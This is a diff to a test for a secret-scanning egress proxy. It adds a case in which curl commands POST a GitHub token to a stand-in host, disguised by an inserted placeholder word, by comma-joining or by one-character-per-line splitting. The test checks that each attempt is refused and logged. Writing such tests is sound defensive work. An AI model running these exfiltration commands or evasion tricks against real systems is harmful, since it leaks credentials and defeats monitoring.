@@ -93,7 +93,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     );
 
     await t.step(
-      "every allowed HTTPS host is intercepted: a secret POSTed to one that is not a route (in base64, in base64 pieces across the query, in base64 of UTF-16, with letters glued on, in the path) is refused and logged with the secret hidden, events and downloads still stream",
+      "every allowed HTTPS host is intercepted: a secret POSTed to one that is not a route (in base64, in base64 pieces across the query, in base64 of UTF-16, with letters glued on or a word put inside, its characters joined by commas or one a line, in the path) is refused and logged with the secret hidden, events and downloads still stream",
       async () => {
         const encoded = btoa(`ci token ${token}`);
         const r = await sh(
@@ -135,6 +135,26 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
         );
         assert.match(glued.stdout, /^403\n.*GitHub token \(rule github-token\) in the body/);
         assert.ok(!(await reached("/v1/glued")), "nothing reached the host");
+        // A placeholder word put inside it, and its characters joined by commas
+        // (`sed 's/./&,/g'`) or one a line (`fold -w1`).
+        const disguised = await sh(
+          `curl -sS -o /tmp/refused -w '%{http_code}' --data-binary '${token.slice(0, 20)}EXAMPLE${
+            token.slice(20)
+          }' https://plain.fake.test/v1/filler; echo; cat /tmp/refused; echo; ` +
+            `printf %s '${token}' | sed 's/./&,/g' | curl -sS -o /tmp/refused -w '%{http_code}' ` +
+            "--data-binary @- https://plain.fake.test/v1/commas; echo; cat /tmp/refused; echo; " +
+            `printf %s '${token}' | fold -w1 | curl -sS -o /tmp/refused -w '%{http_code}' ` +
+            "--data-binary @- https://plain.fake.test/v1/fold; echo; cat /tmp/refused",
+        );
+        assert.match(disguised.stdout, /^403\n.*GitHub token \(rule github-token\) in the body/);
+        assert.equal(
+          disguised.stdout.match(/^403$/gm)?.length,
+          3,
+          `each of the three is refused: ${disguised.stdout}`,
+        );
+        for (const path of ["/v1/filler", "/v1/commas", "/v1/fold"]) {
+          assert.ok(!(await reached(path)), `nothing reached ${path}`);
+        }
         // In a URL's path, to an allowed host and to one outside the allowlist: refused,
         // and the log names the path with the token hidden.
         const inPath = await sh(
